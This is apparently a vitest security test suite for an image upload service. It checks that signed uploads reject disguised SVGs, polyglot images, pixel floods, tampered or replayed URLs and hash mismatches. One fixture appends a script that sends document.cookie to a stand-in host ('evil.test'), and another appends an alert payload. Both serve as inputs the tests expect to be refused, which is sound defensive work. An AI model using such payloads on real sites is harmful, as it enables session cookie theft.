import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FilesystemObjectStore } from '../../src/assets/filesystem-store.js';
import { ApiError } from '../../src/lib/errors.js';
import { deriveSubkey } from '../../src/lib/cursor.js';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { FIXTURE_SIZE, fixtures, makePng, PNG_SIGNATURE, sha256, SVG } from '../helpers/images.js';
import { uploadKit, type UploadKit } from '../helpers/uploads.js';

let t: TestApp;
let kit: UploadKit;
let root: string;

beforeAll(async () => {
  t = await startTestApp();
  kit = await uploadKit(t);
  root = (t.objectStore as FilesystemObjectStore).root;
});
afterAll(() => t.close());

let seed = 100;
/** A fresh real PNG and a truthful ticket for it. */
async function freshUpload(size = FIXTURE_SIZE) {
  const png = makePng(size.width, size.height, { seed: seed++ });
  const ticket = await kit.ticket(kit.describe(png, 'image/png', size));
  return { png, ticket };
}

async function stored(namespace: string): Promise<string[]> {
  return readdir(path.join(root, namespace)).catch(() => []);
}

function expectError(response: { statusCode: number; json(): any }, status: number, code: string, message?: RegExp) {
  expect(response.statusCode).toBe(status);
  expect(response.json().error.code).toBe(code);
  if (message) expect(response.json().error.message).toMatch(message);
}

describe('signed PUT: bytes that are not what the ticket says', () => {
  it('refuses SVG bytes declared as PNG (same length and sha256 as declared)', async () => {
    const ticket = await kit.ticket(kit.describe(SVG, 'image/png', FIXTURE_SIZE));
    const response = await kit.put(ticket, SVG);
    expectError(response, 422, 'unsupported_image_type', /not a PNG image: the bytes are text markup \(SVG, HTML or XML\)/);
    expect(await t.objectStore.exists({ namespace: kit.environment.id, sha256: sha256(SVG) })).toBe(false);
  });

  it('refuses SVG behind a forged PNG signature', async () => {
    const disguised = Buffer.concat([PNG_SIGNATURE, SVG]);
    const ticket = await kit.ticket(kit.describe(disguised, 'image/png', FIXTURE_SIZE));
    expectError(await kit.put(ticket, disguised), 422, 'unsupported_image_type');
  });

  it('refuses a polyglot: a real PNG with a script appended (refused, not stripped)', async () => {
    const polyglot = Buffer.concat([
      makePng(5, 3, { seed: seed++ }),
      Buffer.from('<script>fetch("//evil.test?"+document.cookie)</script>'),
    ]);
    const ticket = await kit.ticket(kit.describe(polyglot, 'image/png', FIXTURE_SIZE));
    expectError(await kit.put(ticket, polyglot), 422, 'unsupported_image_type', /appended data is refused/);
  });

  it('refuses a polyglot JPEG and WebP too', async () => {
    for (const [bytes, type] of [
      [fixtures.baselineJpeg(), 'image/jpeg'],
      [fixtures.losslessWebp(), 'image/webp'],
    ] as const) {
      const polyglot = Buffer.concat([bytes, Buffer.from('<html><script>alert(1)</script></html>')]);
      const ticket = await kit.ticket(kit.describe(polyglot, type, FIXTURE_SIZE));
      expectError(await kit.put(ticket, polyglot), 422, 'unsupported_image_type');
    }
  });

  it('refuses a truncated image', async () => {
    const jpeg = fixtures.progressiveJpeg().subarray(0, 300);
    const ticket = await kit.ticket(kit.describe(jpeg, 'image/jpeg', FIXTURE_SIZE));
    expectError(await kit.put(ticket, jpeg, {}), 422, 'unsupported_image_type', /not a well-formed JPEG/);
  });

  it('refuses a pixel-flood header (65535×65535), even when declared', async () => {
    const flood = makePng(65535, 65535, { headerOnly: true });
    // The ticket refuses the declared size…
    const error = await kit.ticket(kit.describe(flood, 'image/png', { width: 65535, height: 65535 })).catch((e: ApiError) => e);
    expect((error as ApiError).code).toBe('image_too_large');
    // …and the PUT refuses the decoded size when the declared one was small.
    const ticket = await kit.ticket(kit.describe(flood, 'image/png', { width: 1, height: 1 }));
    expectError(await kit.put(ticket, flood), 422, 'image_too_large', /65535×65535/);
  });

  it('refuses a JPEG declared as PNG', async () => {
    const jpeg = fixtures.baselineJpeg();
    const ticket = await kit.ticket(kit.describe(jpeg, 'image/png', FIXTURE_SIZE));
    expectError(await kit.put(ticket, jpeg), 422, 'unsupported_image_type', /declared as image\/png, but the bytes are a JPEG/);
  });

  it('refuses decoded dimensions that differ from the declared ones', async () => {
    const png = makePng(5, 3, { seed: seed++ });
    const ticket = await kit.ticket(kit.describe(png, 'image/png', { width: 3, height: 5 }));
    expectError(await kit.put(ticket, png), 400, 'invalid_request', /5×3 pixels, but 3×5 was declared/);
  });

  it('refuses bytes whose sha256 differs from the ticket (same length, same size)', async () => {
    const { ticket } = await freshUpload();
    const other = makePng(5, 3, { seed: seed++ });
    const response = await kit.put(ticket, other);
    expectError(response, 400, 'invalid_request', /SHA-256/);
    expect(await stored(kit.environment.id)).not.toContain(sha256(other));
  });

  it('refuses a length that differs from the ticket, before reading the body', async () => {
    const { png } = await freshUpload();
    const ticket = await kit.ticket(kit.describe(png, 'image/png', FIXTURE_SIZE, { contentLength: png.length + 1 }));
    expectError(await kit.put(ticket, png), 400, 'invalid_request', new RegExp(`exactly ${png.length + 1} bytes, but ${png.length}`));
  });

  it('refuses a Content-Type other than the one the ticket is for', async () => {
    const { png, ticket } = await freshUpload();
    for (const type of ['image/jpeg', 'image/svg+xml', 'text/html', 'application/json']) {
      expectError(await kit.put(ticket, png, { 'content-type': type }), 415, 'unsupported_media_type', /Content-Type: image\/png/);
    }
    expectError(await kit.put(ticket, png, { 'content-type': null }), 415, 'unsupported_media_type');
  });
});

describe('signed PUT: the URL is the credential', () => {
  it('refuses an expired ticket', async () => {
    const png = makePng(5, 3, { seed: seed++ });
    const past = await FilesystemObjectStore.open({
      root,
      baseUrl: 'http://gatehouse.test',
      signingKey: deriveSubkey(t.instanceSecret, 'uploads'),
      now: () => Date.now() - 6 * 60 * 1000,
    });
    const target = await past.createUploadTarget({
      key: { namespace: kit.environment.id, sha256: sha256(png) },
      contentType: 'image/png',
      contentLength: png.length,
      ...FIXTURE_SIZE,
    });
    expectError(await kit.put(target.url, png, { 'content-type': 'image/png' }), 401, 'unauthenticated', /expired/);
  });

  it('refuses a tampered signature, and any bound field changed', async () => {
    const { png, ticket } = await freshUpload();
    const url = new URL(ticket.uploadUrl!);
    const tamper = (name: string, value: string) => {
      const copy = new URL(url);
      copy.searchParams.set(name, value);
      return copy.href;
    };
    const signature = url.searchParams.get('signature')!;
    const flipped = `${signature.slice(0, -1)}${signature.endsWith('A') ? 'B' : 'A'}`;
    for (const forged of [
      tamper('signature', flipped),
      tamper('signature', ''),
      tamper('width', '4'),
      tamper('length', String(png.length + 1)),
      tamper('type', 'image/webp'),
      tamper('expires', String(Number(url.searchParams.get('expires')) + 3600)),
    ]) {
      expectError(await kit.put(forged, png), 401, 'unauthenticated', /invalid or was altered/);
    }
    const unsigned = new URL(url);
    unsigned.searchParams.delete('signature');
    expectError(await kit.put(unsigned.href, png), 401, 'unauthenticated');
  });

  it('refuses a URL signed with another instance secret', async () => {
    const png = makePng(5, 3, { seed: seed++ });
    const other = await FilesystemObjectStore.open({
      root,
      baseUrl: 'http://gatehouse.test',
      signingKey: deriveSubkey('another-instance-secret-0123456789', 'uploads'),
    });
    const target = await other.createUploadTarget({
      key: { namespace: kit.environment.id, sha256: sha256(png) },
      contentType: 'image/png',
      contentLength: png.length,
      ...FIXTURE_SIZE,
    });
    expectError(await kit.put(target.url, png, { 'content-type': 'image/png' }), 401, 'unauthenticated');
  });

  it('refuses a ticket replayed against another key', async () => {
    const { ticket } = await freshUpload();
    const other = makePng(5, 3, { seed: seed++ });
    const url = new URL(ticket.uploadUrl!);
    url.pathname = `/v1/assets/${kit.environment.id}/${sha256(other)}`;
    expectError(await kit.put(url.href, other), 401, 'unauthenticated');
    expect(await stored(kit.environment.id)).not.toContain(sha256(other));
  });

  it("refuses a ticket replayed into another environment's namespace", async () => {
    const { png, ticket } = await freshUpload();
    const url = new URL(ticket.uploadUrl!);
    url.pathname = `/v1/assets/${t.project.production.id}/${sha256(png)}`;
    expectError(await kit.put(url.href, png), 401, 'unauthenticated');
    expect(await stored(t.project.production.id)).not.toContain(sha256(png));
  });
});

describe('namespaces and concurrency', () => {
  it('the same sha256 in another environment does not report alreadyExists, and is stored separately', async () => {
    const { png, ticket } = await freshUpload();
    expect((await kit.put(ticket, png)).statusCode).toBe(200);
    expect((await kit.ticket(kit.describe(png, 'image/png', FIXTURE_SIZE))).alreadyExists).toBe(true);

    const production = await t.tenancy.getEnvironment(t.project.production.id);
    const elsewhere = await kit.ticket(kit.describe(png, 'image/png', FIXTURE_SIZE), production);
    expect(elsewhere.alreadyExists).toBe(false);
    expect(elsewhere.uploadUrl).toBeDefined();
    expect(elsewhere.publicUrl).toBe(`http://gatehouse.test/v1/assets/${production.id}/${sha256(png)}`);
    // Other projects cannot see it either.
    const other = await t.createProject('Other');
    const foreign = await t.tenancy.getEnvironment(other.development.id);
    expect((await kit.ticket(kit.describe(png, 'image/png', FIXTURE_SIZE), foreign)).alreadyExists).toBe(false);
  });

  it('two concurrent PUTs of one object store exactly one object and leave no temporary file', async () => {
    const { png, ticket } = await freshUpload();
    const responses = await Promise.all([kit.put(ticket, png), kit.put(ticket, png), kit.put(ticket, png)]);
    expect(responses.map((r) => r.statusCode)).toEqual([200, 200, 200]);
    expect((await stored(kit.environment.id)).filter((name) => name === sha256(png))).toHaveLength(1);
    expect(await readdir(path.join(root, '.tmp'))).toEqual([]);
    expect((await kit.get(ticket.publicUrl)).rawPayload.equals(png)).toBe(true);
  });

  it('concurrent stores of one object through the store itself write it once, intact', async () => {
    const png = makePng(64, 64, { seed: seed++ });
    const key = { namespace: kit.environment.id, sha256: sha256(png) };
    await Promise.all(Array.from({ length: 8 }, () => t.objectStore.put(key, png, 'image/png')));
    expect((await stored(kit.environment.id)).filter((name) => name === key.sha256)).toHaveLength(1);
    expect(await readdir(path.join(root, '.tmp'))).toEqual([]);
    const served = await kit.get(t.objectStore.publicUrl(key));
    expect(sha256(served.rawPayload)).toBe(key.sha256);
  });
});

describe('organization images (see test/me/assets.security.test.ts for the live-membership check)', () => {
  it('ask the authorizer before revealing whether the object exists', async () => {
    const { png, ticket } = await freshUpload();
    await kit.put(ticket, png);
    const error = await kit.assets
      .createUploadTicket(kit.environment, kit.describe(png, 'image/png', FIXTURE_SIZE, { purpose: 'organization_image' }), async () => {
        throw new ApiError('forbidden', 'no');
      })
      .catch((e: ApiError) => e);
    expect((error as ApiError).code).toBe('forbidden');
  });
});

describe('project logo: same checks as uploads', () => {
  const put = (payload: Buffer, type: string) =>
    t.call({
      method: 'PUT',
      url: `/v1/platform/projects/${t.project.id}/logo`,
      credential: t.platformKey,
      headers: { 'content-type': type },
      payload,
    });

  it('refuses SVG, saying why', async () => {
    expectError(await put(SVG, 'image/svg+xml'), 422, 'unsupported_image_type', /SVG.*script/);
  });

  it('refuses SVG bytes declared as PNG, a polyglot, and a pixel flood', async () => {
    expectError(await put(SVG, 'image/png'), 422, 'unsupported_image_type');
    expectError(await put(Buffer.concat([makePng(4, 4), Buffer.from('<script>1</script>')]), 'image/png'), 422, 'unsupported_image_type');
    expectError(await put(makePng(65535, 65535, { headerOnly: true }), 'image/png'), 422, 'image_too_large');
  });

  it('refuses more than 1 MB before reading it', async () => {
    expectError(await put(Buffer.alloc(1_048_577), 'image/png'), 422, 'image_too_large');
  });

  it('refuses a body without a Content-Type', async () => {
    const response = await t.call({
      method: 'PUT',
      url: `/v1/platform/projects/${t.project.id}/logo`,
      credential: t.platformKey,
      payload: makePng(2, 2),
    });
    expect(response.statusCode).toBe(415);
  });
});
